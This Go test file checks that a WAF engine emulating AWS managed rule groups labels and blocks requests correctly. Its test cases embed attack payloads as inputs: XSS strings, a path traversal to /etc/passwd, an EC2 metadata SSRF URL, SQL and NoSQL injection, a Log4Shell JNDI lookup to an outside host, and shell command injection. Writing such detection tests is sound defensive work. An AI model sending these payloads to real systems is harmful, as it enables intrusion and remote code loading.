package managed

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"fastness/internal/engine/waf"
	"fastness/internal/engine/waf/attack"
	"fastness/internal/engine/waf/request"
)

// judge gives the labels of a request under all groups, and whether it is blocked.
func judge(t *testing.T, p *waf.Program, r *request.Request) (labels []string, blocked bool) {
	t.Helper()
	v, err := p.Evaluate(r, nil, waf.NewScratch(request.DefaultLimits()))
	if err != nil {
		t.Fatal(err)
	}
	return v.AppendLabels(nil), v.Action == waf.Block
}

func browse(method, target, body string, fields ...string) *request.Request {
	r := &request.Request{
		Method: method, Target: target, Host: "shop.example", Scheme: "https", Proto: "HTTP/1.1", Body: []byte(body),
		Time: time.Unix(1_700_000_000, 0), Remote: netip.MustParseAddr("203.0.113.9"),
		Fields: []request.Field{{Name: "Host", Value: "shop.example"}, {Name: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"}},
	}
	for i := 0; i < len(fields); i += 2 {
		r.Fields = append(r.Fields, request.Field{Name: fields[i], Value: fields[i+1]})
	}
	return r
}

func TestRulesLabelWhatTheyAreNamedFor(t *testing.T) {
	groups, err := New(Feeds{Addresses: func(name string) []netip.Prefix {
		if name == "AnonymousIPList" {
			return []netip.Prefix{netip.MustParsePrefix("198.51.100.0/24")}
		}
		return nil
	}})
	if err != nil {
		t.Fatal(err)
	}
	detector, err := attack.New()
	if err != nil {
		t.Fatal(err)
	}
	program := func(group string) *waf.Program {
		acl := waf.ACL{Name: "a", LabelNamespace: "awswaf:111122223333:webacl:a:", DefaultAction: waf.Action{Kind: waf.Allow}, Rules: []waf.Rule{
			{Name: "g", Statement: waf.Statement{Managed: &waf.ManagedGroup{Vendor: Vendor, Name: group}}},
		}}
		p, err := waf.Compile(&acl, waf.Options{Managed: groups, Attacks: detector})
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	anonymous := browse("GET", "/", "")
	anonymous.Remote = netip.MustParseAddr("198.51.100.7")
	silent := browse("GET", "/", "")
	silent.Fields = silent.Fields[:1]
	form, js := "application/x-www-form-urlencoded", "application/json"
	list := `{"items": [` + strings.Repeat(`"an ordinary text of some length", `, 300) + `"end"]}`
	for _, c := range []struct {
		group string
		r     *request.Request
		label string // "" is a request that passes
	}{
		{"AWSManagedRulesCommonRuleSet", silent, "core-rule-set:NoUserAgent_Header"},
		{"AWSManagedRulesCommonRuleSet", browse("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""), "core-rule-set:CrossSiteScripting_QueryArguments"},
		{"AWSManagedRulesCommonRuleSet", browse("POST", "/", "c=%3Csvg/onload=alert(1)%3E", "Content-Type", form), "core-rule-set:CrossSiteScripting_Body"},
		{"AWSManagedRulesCommonRuleSet", browse("GET", "/?f=../../../../etc/passwd", ""), "core-rule-set:GenericLFI_QueryArguments"},
		{"AWSManagedRulesCommonRuleSet", browse("GET", "/?u=http://169.254.169.254/latest/meta-data/", ""), "core-rule-set:EC2MetaDataSSRF_QueryArguments"},
		{"AWSManagedRulesCommonRuleSet", browse("GET", "/app.log", ""), "core-rule-set:RestrictedExtensions_URIPath"},
		{"AWSManagedRulesCommonRuleSet", browse("GET", "/?q="+strings.Repeat("a", 2100), ""), "core-rule-set:SizeRestrictions_QueryString"},
		{"AWSManagedRulesCommonRuleSet", browse("GET", "/?"+strings.Repeat("name=an-ordinary-value&", 100), ""), ""},
		{"AWSManagedRulesCommonRuleSet", browse("POST", "/", "c="+strings.Repeat("a", 9000), "Content-Type", form), "core-rule-set:SizeRestrictions_Body"},
		{"AWSManagedRulesCommonRuleSet", browse("POST", "/", list, "Content-Type", js), ""},
		{"AWSManagedRulesCommonRuleSet", browse("POST", "/", list[:len(list)-2], "Content-Type", js), "core-rule-set:SizeRestrictions_Body"},
		{"AWSManagedRulesSQLiRuleSet", browse("GET", "/?q=1'%20or%201=1--", ""), "sql-database:SQLi_QueryArguments"},
		{"AWSManagedRulesSQLiRuleSet", browse("POST", "/", `{"user": {"$ne": null}}`, "Content-Type", js), "sql-database:SQLiExtendedPatterns_Body"},
		{"AWSManagedRulesSQLiRuleSet", browse("GET", "/?q=rock%20%26%20roll", ""), ""},
		{"AWSManagedRulesKnownBadInputsRuleSet", browse("GET", "/", "", "X-Api", "${jndi:ldap://198.51.100.7/a}"), "known-bad-inputs:JavaDeserializationRCE_Header"},
		{"AWSManagedRulesKnownBadInputsRuleSet", browse("PROPFIND", "/", ""), "known-bad-inputs:Propfind_Method"},
		{"AWSManagedRulesKnownBadInputsRuleSet", browse("GET", "/.git/config", ""), "known-bad-inputs:ExploitablePaths_URIPath"},
		{"AWSManagedRulesUnixRuleSet", browse("GET", "/?host=127.0.0.1%3Bcat%20/etc/hosts", ""), "posix-os:UNIXShellCommandsVariables_QueryString"},
		{"AWSManagedRulesAdminProtectionRuleSet", browse("GET", "/phpmyadmin/", ""), "admin-protection:AdminProtection_URIPath"},
		{"AWSManagedRulesAnonymousIpList", anonymous, "anonymous-ip-list:AnonymousIPList"},
		{"AWSManagedRulesAnonymousIpList", browse("GET", "/", ""), ""},
	} {
		labels, blocked := judge(t, program(c.group), c.r)
		if c.label == "" {
			if blocked || len(labels) > 0 {
				t.Errorf("%s %.60s: blocked %v, %v", c.r.Method, c.r.Target, blocked, labels)
			}
			continue
		}
		if want := "awswaf:managed:aws:" + c.label; !blocked || len(labels) != 1 || labels[0] != want {
			t.Errorf("%s %.60s: blocked %v, %v, want %s", c.r.Method, c.r.Target, blocked, labels, want)
		}
	}
}
